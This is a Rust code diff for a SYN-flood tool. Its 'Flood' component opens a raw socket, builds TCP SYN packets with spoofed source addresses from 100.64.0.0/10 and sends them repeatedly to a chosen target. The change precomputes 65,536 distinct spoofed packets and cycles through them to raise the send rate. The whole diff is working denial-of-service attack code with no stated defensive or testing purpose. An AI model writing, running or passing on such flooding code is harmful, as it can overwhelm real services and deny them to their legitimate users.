@@ -16,6 +16,8 @@ use socket2::{Domain, Socket, Type};
 const RAW: i32 = 255;
 /// The sources: 100.64.0.0/10 (RFC 6598).
 const SOURCES: u32 = 0x6440_0000;
+/// SYNs that are made before the first is sent.
+const PACKETS: u32 = 65_536;
 const WITHIN: Duration = Duration::from_mins(1);
 
 /// A running flood.
@@ -58,21 +60,28 @@ impl Drop for Flood {
 
 fn send(target: SocketAddrV4, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
     let socket = Socket::new(Domain::IPV4, Type::RAW, Some(RAW.into())).context("open a socket")?;
-    let mut packet = Vec::new();
-    let mut number = 0_u32;
-    while !stop.load(Ordering::Relaxed) {
-        number = number.wrapping_add(0x9e37_79b1);
-        let source = Ipv4Addr::from(SOURCES | (number >> 10)).octets();
-        let port = u16::try_from(number & 0x7fff).unwrap_or_default() + 1_024;
-        packet.clear();
-        PacketBuilder::ipv4(source, target.ip().octets(), 64)
-            .tcp(port, target.port(), number, 64_240)
-            .syn()
-            .write(&mut packet, &[])?;
+    let packets = (1..=PACKETS).map(|number| syn(target, number)).collect::<Result<Vec<_>>>()?;
+    for packet in packets.iter().cycle() {
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
         // A full queue drops what it cannot hold, as a wire does.
-        if socket.send_to(&packet, &target.into()).is_ok() {
+        if socket.send_to(packet, &target.into()).is_ok() {
             sent.fetch_add(1, Ordering::Relaxed);
         }
     }
     Ok(())
+}
+
+/// A SYN, each of another source.
+fn syn(target: SocketAddrV4, number: u32) -> Result<Vec<u8>> {
+    let mixed = number.wrapping_mul(0x9e37_79b1);
+    let source = Ipv4Addr::from(SOURCES | (mixed >> 10)).octets();
+    let port = u16::try_from(mixed & 0x7fff)? + 1_024;
+    let mut packet = Vec::new();
+    PacketBuilder::ipv4(source, target.ip().octets(), 64)
+        .tcp(port, target.port(), mixed, 64_240)
+        .syn()
+        .write(&mut packet, &[])?;
+    Ok(packet)
 }
